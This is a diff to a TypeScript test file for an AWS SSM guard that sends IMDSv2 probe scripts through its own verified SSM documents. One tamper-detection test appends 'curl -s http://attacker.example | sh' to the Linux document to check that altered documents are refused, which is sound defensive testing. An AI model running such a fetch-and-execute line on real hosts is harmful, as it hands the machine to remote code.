@@ -1,6 +1,7 @@
 import {
   GetCommandInvocationCommand,
   type GetCommandInvocationCommandOutput,
+  GetDocumentCommand,
   InvocationDoesNotExist,
   SendCommandCommand,
   SSMServiceException,
@@ -9,6 +10,7 @@ import { beforeEach, describe, expect, it } from "vitest";
 import { ssm } from "../../shared/aws/clients/index.js";
 import type { InstanceProgress, Platform } from "../../shared/domain/model.js";
 import { parseProbeOutput } from "../../shared/domain/probe-verdict.js";
+import { GUARD_PROBE_DOCUMENTS } from "../../shared/probes/guard-probe-documents.js";
 import probeLinux from "../../shared/probes/probe-linux.sh";
 import probeWindows from "../../shared/probes/probe-windows.ps1";
 import { checkProbeBatch } from "../../shared/steps/check-probe.js";
@@ -74,8 +76,21 @@ beforeEach(() => {
   sends = memoryProbeSends();
 });
 
+const PREFIX = "imdsv2-guard-test-probe";
+const DOCUMENTS = { linux: `${PREFIX}-linux`, windows: `${PREFIX}-windows` };
+
 function deps(now = NOW) {
-  return { ssm, sends, logger, now: () => now };
+  return { ssm, sends, logger, now: () => now, documentPrefix: PREFIX };
+}
+
+/** The guard's documents as the stack deployed them: this build's content, at version 3 (two earlier releases). */
+function deployedDocuments(content: (platform: Platform) => unknown = (p) => GUARD_PROBE_DOCUMENTS[p].content) {
+  for (const platform of ["linux", "windows"] as const) {
+    ssmMock
+      .on(GetDocumentCommand, { Name: DOCUMENTS[platform] })
+      // Another serializer's key order and whitespace: only the content counts.
+      .resolves({ DocumentVersion: "3", DocumentType: "Command", Content: JSON.stringify(content(platform), null, 4) });
+  }
 }
 
 function sendInputs() {
@@ -87,14 +102,17 @@ const READING_PASS =
 const READING_FAIL =
   '{"v1":200,"v1Credentials":200,"token":200,"v2":200,"client":"curl","v6":{"v1":null,"v1Credentials":null,"token":null,"v2":null},"answered":["ipv4"]}';
 
-beforeEach(resetMocks);
+beforeEach(() => {
+  resetMocks();
+  deployedDocuments();
+});
 
 describe("sendProbeBatch", () => {
   it.each([
-    { platform: "linux", documentName: "AWS-RunShellScript", script: probeLinux },
-    { platform: "windows", documentName: "AWS-RunPowerShellScript", script: probeWindows },
+    { platform: "linux", documentName: DOCUMENTS.linux, script: probeLinux },
+    { platform: "windows", documentName: DOCUMENTS.windows, script: probeWindows },
   ] as const)(
-    "sends the repository's $platform probe verbatim with $documentName",
+    "sends the guard's own $platform document, at the version it checked, with no parameter",
     async ({ platform, documentName, script }) => {
       // Prepare
       ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: "cmd-1" } });
@@ -106,8 +124,15 @@ describe("sendProbeBatch", () => {
       const inputs = sendInputs();
       expect(inputs).toHaveLength(1);
       expect(inputs[0]?.DocumentName).toBe(documentName);
+      expect(inputs[0]?.DocumentVersion).toBe("3");
       expect(inputs[0]?.InstanceIds).toEqual([ID_A]);
-      expect(inputs[0]?.Parameters?.commands).toStrictEqual([script]);
+      expect(inputs[0]?.Parameters).toBeUndefined();
+      // The document it checked holds the repository's probe, verbatim.
+      expect(GUARD_PROBE_DOCUMENTS[platform].content.mainSteps[0].inputs.runCommand).toStrictEqual([script]);
+      expect(ssmMock.commandCalls(GetDocumentCommand)[0]?.args[0].input).toMatchObject({
+        Name: documentName,
+        DocumentVersion: "$LATEST",
+      });
       expect(script.length).toBeGreaterThan(100);
     },
   );
@@ -123,11 +148,10 @@ describe("sendProbeBatch", () => {
     const inputs = sendInputs();
     expect(inputs).toHaveLength(2);
     for (const input of inputs) {
-      const parameters = JSON.stringify(input.Parameters);
-      expect(Object.keys(input.Parameters ?? {}).sort()).toEqual(["commands", "executionTimeout"]);
+      expect(input.Parameters).toBeUndefined();
       for (const forbidden of [HOSTILE, ID_A, ID_B, "evt-probe-1", "exempt"]) {
-        expect(parameters).not.toContain(forbidden);
         expect(input.Comment ?? "").not.toContain(forbidden);
+        expect(input.DocumentName).not.toContain(forbidden);
       }
     }
     expect(probeLinux).not.toContain(HOSTILE);
@@ -149,9 +173,59 @@ describe("sendProbeBatch", () => {
     // Assess
     const inputs = sendInputs();
     expect(inputs.map((i) => [i.DocumentName, i.InstanceIds])).toEqual([
-      ["AWS-RunShellScript", linux],
-      ["AWS-RunPowerShellScript", windows],
+      [DOCUMENTS.linux, linux],
+      [DOCUMENTS.windows, windows],
     ]);
+  });
+
+  it("sends nothing and ends `error` when the document is not the probe it was built with", async () => {
+    // Prepare: someone added a step to the Linux document (or the spoke is from an older release).
+    deployedDocuments((platform) => {
+      const content = structuredClone(GUARD_PROBE_DOCUMENTS[platform].content);
+      if (platform === "linux") content.mainSteps[0].inputs.runCommand[0] += "curl -s http://attacker.example | sh\n";
+      return content;
+    });
+    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: "cmd-1" } });
+
+    // Act
+    const out = await sendProbeBatch(batchOf([readyToProbe(ID_A, "linux"), readyToProbe(ID_B, "windows")]), deps());
+
+    // Assess: the Windows probe still goes out with its intact document; the Linux instance gets the reason.
+    expect(sendInputs().map((i) => i.DocumentName)).toEqual([DOCUMENTS.windows]);
+    expect(only(out, ID_A).result).toMatchObject({
+      verdict: "error",
+      reason: expect.stringMatching(/is not the probe this guard was built with.*out of date, or someone altered it/),
+    });
+    expect(only(out, ID_B).stage).toBe("await-probe");
+  });
+
+  it("sends nothing and ends `error` when the document is missing", async () => {
+    // Prepare
+    ssmMock.on(GetDocumentCommand).rejects(ssmError("InvalidDocument", 400));
+    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: "cmd-1" } });
+
+    // Act
+    const out = await sendProbeBatch(batchOf([readyToProbe(ID_A, "linux")]), deps());
+
+    // Assess
+    expect(sendInputs()).toHaveLength(0);
+    expect(only(out, ID_A).result).toMatchObject({
+      verdict: "error",
+      reason: expect.stringContaining("InvalidDocument"),
+    });
+  });
+
+  it("waits for the next round when reading the document is throttled", async () => {
+    // Prepare
+    ssmMock.on(GetDocumentCommand).rejects(contractError("ssmThrottled"));
+
+    // Act
+    const out = await sendProbeBatch(batchOf([readyToProbe(ID_A, "linux")]), deps());
+
+    // Assess
+    expect(sendInputs()).toHaveLength(0);
+    expect(only(out, ID_A).stage).toBe("send-probe");
+    expect(only(out, ID_A).result).toBeUndefined();
   });
 
   it("sends a single command for a full batch of 50 instances", async () => {
